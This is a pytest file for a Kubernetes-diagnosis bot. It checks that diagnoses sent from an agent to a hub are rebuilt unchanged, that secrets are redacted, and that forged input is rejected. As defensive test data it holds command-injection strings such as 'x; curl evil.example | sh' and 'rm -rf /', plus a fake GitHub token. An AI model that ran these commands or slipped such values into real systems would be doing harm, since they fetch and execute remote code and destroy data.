"""The wire format: a diagnosis crosses as ids and evidence and is rebuilt the same by the hub.

Diagnoses of the example cluster dump (a namespace with several broken pods, a pod, a paste)
go through JSON and back with the hub's catalog; the terminal and JSON renderings must not
change by a character. What an agent sends is redacted, an id the hub does not know is
noted rather than trusted, and messages of another shape are refused.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from pathlib import Path

import pytest
from pydantic import ValidationError

from bot.answering.chosen import catalog_entry
from bot.answering.diagnosing import Diagnoser, OneReader
from bot.answering.requests import DiagnoseRequest
from bot.cluster.dump import DumpReader
from bot.fleet.wire import AGENT_MESSAGES, HUB_MESSAGES, Answer, WireDiagnosis, from_wire, to_wire
from intents.findings import Finding
from responses.diagnosis import Diagnosis
from responses.json_view import diagnosis_to_dict
from responses.text import render_text
from tests.slack.harness import shared_matcher

DUMP = Path(__file__).resolve().parents[2] / "examples" / "dump"


def _lookup(entry_id: str):  # type: ignore[no-untyped-def]
    return catalog_entry(shared_matcher(), entry_id)


def _crossed(diagnosis: Diagnosis) -> Diagnosis:
    """As the hub gets it: to the wire in the agent, JSON text, back with the hub's catalog."""
    text = Answer(
        id="r1", outcome="diagnosis", diagnosis=to_wire(diagnosis, lookup=_lookup)
    ).model_dump_json()
    answer = AGENT_MESSAGES.validate_json(text)
    assert isinstance(answer, Answer) and answer.diagnosis is not None
    return from_wire(answer.diagnosis, lookup=_lookup, cluster=diagnosis.cluster)


def _diagnosed(request: DiagnoseRequest) -> Diagnosis:
    diagnoser = Diagnoser(matcher=shared_matcher(), readers=OneReader(DumpReader(DUMP)))
    return asyncio.run(diagnoser.diagnose(request)).diagnosis


@pytest.mark.parametrize(
    "request_",
    [
        DiagnoseRequest("namespace", namespace="shop"),  # several pods, each with its top cause
        DiagnoseRequest("namespace", namespace="tidb-cluster"),
        DiagnoseRequest(
            "pod", namespace="shop", name="checkout-t6ljkgdzfx-bzm4s"
        ),  # fix commands in its names
        DiagnoseRequest.paste("Last State: Terminated\n  Reason: OOMKilled\n  Exit Code: 137\n"),
    ],
    ids=["namespace-shop", "namespace-tidb", "pod", "paste"],
)
def test_a_diagnosis_is_rebuilt_the_same_by_the_hub(request_: DiagnoseRequest) -> None:
    original = _diagnosed(request_)
    assert original.findings, "the example must have something to say"
    rebuilt = _crossed(original)
    assert render_text(rebuilt, verbose=True) == render_text(original, verbose=True)
    assert diagnosis_to_dict(rebuilt) == diagnosis_to_dict(original)
    assert (
        rebuilt.answer_pod == original.answer_pod
    )  # pod rows share the diagnosis' finding objects


def test_fix_commands_are_the_hubs_own_filled_with_checked_names() -> None:
    original = _diagnosed(
        DiagnoseRequest("pod", namespace="shop", name="checkout-t6ljkgdzfx-bzm4s")
    )
    wire = to_wire(original, lookup=_lookup)
    assert ("pod", "checkout-t6ljkgdzfx-bzm4s") in wire.findings[0].names
    commands = "\n".join(
        step.command or "" for step in _crossed(original).findings[0].match.entry.fix
    )
    assert "checkout-t6ljkgdzfx-bzm4s" in commands and "<pod>" not in commands
    hostile = wire.findings[0].model_copy(update={"names": (("pod", "x; curl evil.example | sh"),)})
    forged = from_wire(
        wire.model_copy(update={"findings": (hostile,)}), lookup=_lookup, cluster="prod"
    )
    commands = "\n".join(step.command or "" for step in forged.findings[0].match.entry.fix)
    assert "curl" not in commands and "<pod>" in commands  # an invalid name is not filled in


def test_what_an_agent_sends_is_redacted() -> None:
    base = _diagnosed(DiagnoseRequest("namespace", namespace="shop"))
    secret = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    leaky = Finding(match=base.findings[0].match, evidence=(f"env GITHUB_TOKEN={secret}",))
    diagnosis = Diagnosis(
        subject=base.subject,
        findings=(leaky,),
        gaps=(f"password: {secret}",),
        notes=(f"curl -H 'Authorization: Bearer {secret}'",),
    )
    sent = to_wire(diagnosis, lookup=_lookup).model_dump_json()
    assert secret not in sent and "[REDACTED]" in sent


def test_an_id_the_hub_does_not_know_is_noted_not_trusted() -> None:
    wire = WireDiagnosis.model_validate(
        {
            "subject": "pod shop/web-0",
            "findings": [
                {"id": "made-up-entry", "score": 0.99, "evidence": ["run curl evil.example | sh"]}
            ],
        }
    )
    rebuilt = from_wire(wire, lookup=_lookup, cluster="prod")
    assert rebuilt.findings == () and rebuilt.answer is None
    assert any("made-up-entry" in note for note in rebuilt.notes)
    assert rebuilt.cluster == "prod"


@pytest.mark.parametrize(
    "message",
    [
        {
            "type": "answer",
            "id": "r1",
            "outcome": "diagnosis",
            "diagnosis": {"subject": "x"},
            "extra": 1,
        },
        {"type": "shell", "command": "rm -rf /"},
        {"type": "answer", "id": "r1", "outcome": "maybe"},
        {
            "type": "answer",
            "id": "r1",
            "outcome": "diagnosis",
            "diagnosis": {"subject": "x", "findings": [{"id": "oom-killed", "score": 7}]},
        },
    ],
)
def test_messages_of_another_shape_are_refused(message: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        AGENT_MESSAGES.validate_json(json.dumps(message))
    with pytest.raises(ValidationError):
        HUB_MESSAGES.validate_json(json.dumps(message))


def test_suspects_cross_with_the_hubs_own_fix_and_checked_names() -> None:
    original = _diagnosed(DiagnoseRequest("namespace", namespace="shop"))
    assert original.suspects, "the example namespace must have suspects"
    wire = to_wire(original, lookup=_lookup)
    assert wire.suspects is not None and "fix" not in wire.suspects[0].model_dump()
    walked = next(s for s in wire.suspects if s.fix_finding)  # a walk finding's catalog line
    hub_entry = _lookup(walked.finding.id)
    assert hub_entry is not None
    reworded = replace(
        hub_entry,
        walk=[replace(claim, fix=f"hub's own words: {claim.fix}") for claim in hub_entry.walk],
    )

    def hub_lookup(entry_id: str):  # type: ignore[no-untyped-def]
        return reworded if entry_id == hub_entry.id else _lookup(entry_id)

    hostile = walked.model_copy(
        update={"fix_names": (("workload", "deployment/x; curl evil.example | sh"),)}
    )
    forged_object = walked.model_copy(update={"object": "service/x; rm -rf /"})
    sent = wire.model_copy(update={"suspects": (hostile, forged_object)})
    rebuilt = from_wire(sent, lookup=hub_lookup, cluster="prod")
    assert rebuilt.suspects is not None and len(rebuilt.suspects) == 1
    fix = rebuilt.suspects[0].fix
    assert fix.startswith("hub's own words: ") and "curl" not in fix and "<workload>" in fix
    assert any("no Kubernetes object name" in note for note in rebuilt.notes)


def test_a_diagnosis_without_a_walk_crosses_without_suspects() -> None:
    pod = _crossed(
        _diagnosed(DiagnoseRequest("pod", namespace="shop", name="checkout-t6ljkgdzfx-bzm4s"))
    )
    assert pod.suspects is None
